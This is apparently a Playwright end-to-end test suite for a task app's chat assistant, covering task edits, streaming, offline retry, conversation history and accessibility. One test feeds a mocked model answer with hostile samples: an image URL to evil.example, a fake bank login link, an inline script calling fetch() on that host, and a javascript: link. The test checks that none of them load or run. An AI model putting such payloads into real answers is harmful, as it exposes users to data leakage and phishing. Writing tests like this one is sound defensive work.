/** Talking to the assistant, as a person does it. */
import AxeBuilder from "@axe-core/playwright"
import type { ServerResponse } from "node:http"
import { call, expect, open, row, test } from "../support/app"
import { ask, field, log, openChat, playAssistant, recorded, Stream } from "../support/chat"

const { finish, start, text } = recorded

test.beforeEach(async ({ person: _person }) => undefined)

test("a task is added in the chat, stands in the list beside, is deleted after a yes, and comes back", { tag: "@firefox" }, async ({ page }) => {
  await open(page, "/upcoming")
  await openChat(page)
  await expect(page.getByText("What shall we get done?")).toBeVisible()
  await ask(page, "add call Ann tomorrow 5pm")
  const main = page.getByRole("main")
  await expect(log(page).getByRole("group", { name: "Added" }).getByText("Tomorrow, 17:00")).toBeVisible()
  await expect(row(page, "call Ann").and(main.getByRole("listitem"))).toBeVisible()

  await ask(page, "delete it")
  const question = log(page).getByRole("group", { name: /Delete “call Ann”/ })
  await expect(question).toBeFocused()
  await page.keyboard.press("Tab")
  await page.keyboard.press("Enter")
  await expect(log(page).getByRole("group", { name: "Deleted" })).toBeVisible()
  await expect(main.getByText("call Ann")).toBeHidden()
  await expect(field(page)).toBeFocused()

  await log(page).getByRole("button", { name: /^Undo: Deleted/ }).click()
  await expect(main.getByText("call Ann")).toBeVisible()
  await expect(log(page).getByRole("button", { name: /^Redo: Deleted/ })).toBeVisible()
})

test("a no changes nothing", async ({ page, context, baseURL }) => {
  await call(context, baseURL!, "/tasks/quick", { text: "buy milk today" })
  await open(page, "/today")
  await openChat(page)
  await ask(page, "delete buy milk")
  await log(page).getByRole("button", { name: "No", exact: true }).click()
  await expect(log(page).getByText("Nothing was changed.")).toBeVisible()
  await expect(page.getByRole("main").getByText("buy milk")).toBeVisible()
})

test("what is offered fits the list", async ({ page, context, baseURL }) => {
  const late = new Date(Date.now() - 2 * 86_400_000).toISOString().slice(0, 10)
  await call(context, baseURL!, "/tasks", { title: "pay rent", due_date: late })
  await open(page, "/today")
  await openChat(page)
  await page.getByRole("button", { name: "Move everything overdue to tomorrow" }).click()
  await expect(log(page).getByRole("group", { name: "Changed" }).getByText("Tomorrow")).toBeVisible()
})

test("a task is ticked on its card", async ({ page, context, baseURL }) => {
  await call(context, baseURL!, "/tasks/quick", { text: "buy milk today" })
  await open(page, "/today")
  await openChat(page)
  await ask(page, "what is due today?")
  await log(page).getByRole("checkbox", { name: "Complete: buy milk" }).click()
  await expect(log(page).getByRole("checkbox", { name: "Reopen: buy milk" })).toBeChecked()
  await expect(page.getByRole("main").getByText("buy milk")).toBeHidden()
})

test("an ambiguous request offers what could be meant", async ({ page, context, baseURL }) => {
  for (const title of ["call Ann", "call Bob"]) await call(context, baseURL!, "/tasks", { title })
  await open(page, "/inbox")
  await openChat(page)
  await ask(page, "complete call")
  await log(page).getByRole("button", { name: "call Bob", exact: true }).click()
  await expect(log(page).getByRole("group", { name: "Completed" }).getByText("call Bob")).toBeVisible()
  await expect(page.getByRole("main").getByText("call Ann")).toBeVisible()
  await expect(page.getByRole("main").getByText("call Bob")).toBeHidden()
})

test("a reload in the middle of an answer comes back to it", async ({ page }) => {
  let running: { user: object; streams: Stream[] } | undefined
  const assistantParts = [{ type: "text", text: "One" }]
  const follow = (answer: ServerResponse) => running!.streams.push(new Stream(answer).send(start(), ...text("One")))
  const server = await playAssistant(page, {
    "POST /chat": ({ body }, answer) => {
      running = { user: body.message as object, streams: [] }
      follow(answer)
    },
    "GET *": ({ path }, answer) => {
      if (path.endsWith("/stream")) return void follow(answer)
      if (path === "/conversations") return { items: [], next_cursor: null }
      const stored = { status: "done", model: null, created_at: "2026-11-23T10:00:00Z" }
      return {
        items: [{ ...stored, id: "answer-1", role: "assistant", parts: assistantParts, status: "running" }, { ...stored, ...running!.user }],
        next_cursor: null,
      }
    },
  })
  await open(page, "/today")
  await openChat(page)
  await field(page).fill("count")
  await field(page).press("Enter")
  await expect(log(page).getByText("One")).toBeVisible()
  await page.reload()
  await openChat(page)
  await expect(log(page).getByText("count")).toBeVisible()
  await expect(log(page).getByText("One")).toHaveCount(1)
  await expect(page.getByRole("button", { name: "Stop" })).toBeVisible()
  running!.streams.at(-1)!.send(...text("Two", "t2"), finish()).end()
  await expect(log(page).getByText("Two")).toBeVisible()
  await expect(log(page).getByText("One")).toHaveCount(1)
  await expect(log(page)).toHaveAttribute("aria-busy", "false")
  await server.close()
})

test("an answer is stopped, and a lost connection is taken up again", async ({ page }) => {
  const streams: Stream[] = []
  const begin = (answer: ServerResponse) => void streams.push(new Stream(answer).send(start(), ...text("On and on")))
  const server = await playAssistant(page, {
    "POST /chat": (_, answer) => begin(answer),
    "GET *": ({ path }, answer) => (path.endsWith("/stream") ? begin(answer) : { items: [], next_cursor: null }),
    "POST *": ({ path }) => {
      if (path.endsWith("/stop")) streams.at(-1)!.send(finish("stopped"), { type: "abort" }).end()
    },
  })
  await open(page, "/today")
  await openChat(page)
  await field(page).fill("go on")
  await field(page).press("Enter")
  await expect(log(page).getByText("On and on")).toBeVisible()
  streams[0]!.cut()
  await expect.poll(() => streams.length).toBe(2)
  await expect(log(page)).toHaveAttribute("aria-busy", "true")
  await expect(page.getByText("The connection was lost")).toBeHidden()
  await page.getByRole("button", { name: "Stop" }).click()
  await expect(log(page)).toHaveAttribute("aria-busy", "false")
  await expect(log(page).getByText("On and on")).toHaveCount(1)
  await expect(page.getByRole("button", { name: "Send", exact: true })).toBeVisible()
  await server.close()
})

test("without a network the message waits and is sent again once", async ({ page, context }) => {
  await open(page, "/inbox")
  await openChat(page)
  await context.setOffline(true)
  await field(page).fill("add buy bread")
  await field(page).press("Enter")
  await expect(page.getByText("Your message was not sent.")).toBeVisible()
  await context.setOffline(false)
  await page.getByRole("button", { name: "Try again" }).first().click()
  await expect(log(page).getByRole("group", { name: "Added" })).toBeVisible()
  await expect(log(page).getByText("add buy bread", { exact: true })).toHaveCount(1)
  await expect(page.getByRole("main").getByText("buy bread")).toHaveCount(1)
})

test("a conversation is found again, renamed, continued and deleted; a message is edited", async ({ page }) => {
  await open(page, "/inbox")
  await openChat(page)
  await ask(page, "add buy oat milk")
  await log(page).getByText("add buy oat milk", { exact: true }).hover()
  await log(page).getByRole("button", { name: "Edit and send again" }).click()
  await page.getByRole("textbox", { name: "Edit your message" }).fill("add buy rye bread")
  await page.keyboard.press("Enter")
  await expect(log(page).getByText("buy rye bread", { exact: true })).toBeVisible()
  await expect(log(page).getByText("add buy oat milk", { exact: true })).toHaveCount(0)

  await page.getByRole("button", { name: "New conversation" }).click()
  await expect(page.getByText("What shall we get done?")).toBeVisible()
  await page.getByRole("button", { name: "Past conversations" }).click()
  await page.getByRole("searchbox", { name: "Search conversations" }).fill("rye")
  await page.getByRole("button", { name: /^Rename:/ }).click()
  await page.getByRole("textbox", { name: "Name of the conversation" }).fill("Bakery")
  await page.keyboard.press("Enter")
  await page.getByRole("button", { name: /^Bakery/ }).click()
  await expect(log(page).getByText("add buy rye bread", { exact: true })).toBeVisible()
  await page.getByRole("button", { name: "Past conversations" }).click()
  await page.getByRole("button", { name: "Delete: Bakery" }).click()
  await page.getByRole("button", { name: "Delete", exact: true }).click()
  await expect(page.getByText("No conversations yet")).toBeVisible()
})

test("links and pictures of a model do nothing by themselves, and a link says where it leads", async ({ page }) => {
  const evil = "https://evil.example"
  const words = [
    `![secret](${evil}/pixel.png?q=1)`,
    `[your bank](${evil}/login)`,
    `<img src="${evil}/html.png"><script>fetch("${evil}/script")</script>`,
    `[run](javascript:alert(1)) <${evil}/auto>`,
  ].join("\n\n")
  const server = await playAssistant(page, {
    "POST /chat": (_, answer) => void new Stream(answer).send(start(), ...text(words), finish()).end(),
    "GET *": () => ({ items: [], next_cursor: null }),
  })
  const asked: string[] = []
  await page.context().route(`${evil}/**`, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ body: "" })
  })
  await open(page, "/today")
  await openChat(page)
  await ask(page, "show it")

  const answer = log(page).getByRole("article").last()
  await expect(answer).toContainText(`[Picture: secret ${evil}/pixel.png?q=1]`)
  const link = answer.getByRole("link", { name: "your bank" })
  await expect(link).toContainText(`(${evil}/login)`)
  await expect(link).toHaveAttribute("rel", /noopener noreferrer/)
  await expect(answer.getByRole("link", { name: "run" })).toHaveCount(0)
  await expect(answer.locator("img, script")).toHaveCount(0)
  expect(asked).toEqual([])
  const [opened] = await Promise.all([page.waitForEvent("popup"), link.click()])
  await expect.poll(() => asked).toEqual([`${evil}/login`])
  await opened.close()
  await server.close()
})

test("the keyboard alone opens, asks and closes", async ({ page }) => {
  await open(page, "/today")
  await page.keyboard.press("c")
  await expect(field(page)).toBeFocused()
  await page.keyboard.type("hello")
  await page.keyboard.press("Shift+Enter")
  await page.keyboard.type("there")
  await expect(field(page)).toHaveValue("hello\nthere")
  await page.keyboard.press("Escape")
  await expect(field(page)).toBeHidden()
})

for (const theme of ["light", "dark"] as const) {
  test(`nothing of the panel is out of reach (${theme})`, async ({ page, context, baseURL }) => {
    await page.emulateMedia({ colorScheme: theme, reducedMotion: "reduce" })
    for (const title of ["call Ann", "call Bob"]) await call(context, baseURL!, "/tasks", { title })
    const check = async () => expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([])
    await open(page, "/inbox")
    await openChat(page)
    await expect(page.getByText("What shall we get done?")).toBeVisible()
    await check()
    await page.getByRole("button", { name: "Built-in assistant" }).click()
    await ask(page, "show my inbox")
    await ask(page, "delete call Ann")
    await check()
    await log(page).getByRole("button", { name: "Yes, do it" }).click()
    await expect(log(page).getByRole("group", { name: "Deleted" })).toBeVisible()
    await expect(log(page)).toHaveAttribute("aria-busy", "false")
    await check()
    await page.getByRole("button", { name: "Past conversations" }).click()
    await expect(page.getByRole("button", { name: /^Rename:/ })).toBeAttached()
    await check()
    await page.getByRole("button", { name: /^Delete:/ }).focus()
    await page.keyboard.press("Enter")
    await check()
  })
}
